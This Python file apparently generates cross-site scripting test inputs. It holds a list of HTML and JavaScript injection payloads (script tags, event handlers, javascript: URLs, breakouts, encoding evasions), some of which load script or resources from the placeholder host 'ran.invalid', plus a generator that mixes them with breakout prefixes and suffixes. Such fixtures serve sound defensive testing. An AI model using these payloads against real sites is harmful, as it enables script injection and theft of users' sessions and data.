"""What people have typed into forms to run a script in somebody else's browser, or to have it ask
another host.

Each says alert, so that a browser in which one runs opens a box, or asks for something at MARKED.
"""

import random
from collections.abc import Iterator

MARKED = "ran.invalid"  # no such host, ever
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert&#40;1&#41;">',
    "<svg onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>点我</a>",
    "javascript:alert(1)",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "</form><form action=javascript:alert(1)><input type=submit>",
    "<input onfocus=alert(1) autofocus>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    '" onmouseover="alert(1)',
    "x onmouseover=alert(1) y=",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<x contenteditable onblur=alert(1) tabindex=1 autofocus>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ ''.__class__ }}{{ 7*7 }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<template><script>alert(1)</script></template>",
    "<data-x is=x onclick=alert(1)>x</data-x>",
    "<svg/onload=alert()>",
    f"<script src=//{MARKED}/s></script>",
    f"<img src=//{MARKED}/i>",
    f"\"><img src='//{MARKED}/q",
    f"<style>@import '//{MARKED}/c'</style>",
    f"<link rel=stylesheet href=//{MARKED}/l>",
    f"<iframe src=//{MARKED}/f></iframe>",
    f"<meta http-equiv=refresh content='0;url=//{MARKED}/m'>",
    f"<svg><image href=//{MARKED}/v />",
    f"<p style=background:url(//{MARKED}/b)>x",
    f"<input type=image src=//{MARKED}/t>",
    f"<script>document.title='{MARKED}'</script>",
]
BEFORE = ["", '"', "'", "'>", '">', "`", "-->", "</p>", "</dd>", "</textarea>", "</td>", "周小麦 "]
AFTER = ["", "<", "//", "<!--", '"', "'", "\t", "</script>", " x=", "\\"]


def payloads(count: int) -> Iterator[str]:
    """Those above first, then mixtures with what would break out of where they stand. Fewer than
    there are: some of every sort."""
    few = min(count, len(PAYLOADS))
    yield from (PAYLOADS[place * len(PAYLOADS) // few] for place in range(few))
    chance = random.Random(4)  # noqa: S311 - variety only
    for _more in range(count - len(PAYLOADS)):
        payload = chance.choice(PAYLOADS)
        if chance.random() < 0.3:
            payload = "".join(chance.choice([c.upper(), c.lower()]) for c in payload)
        yield chance.choice(BEFORE) + payload + chance.choice(AFTER)
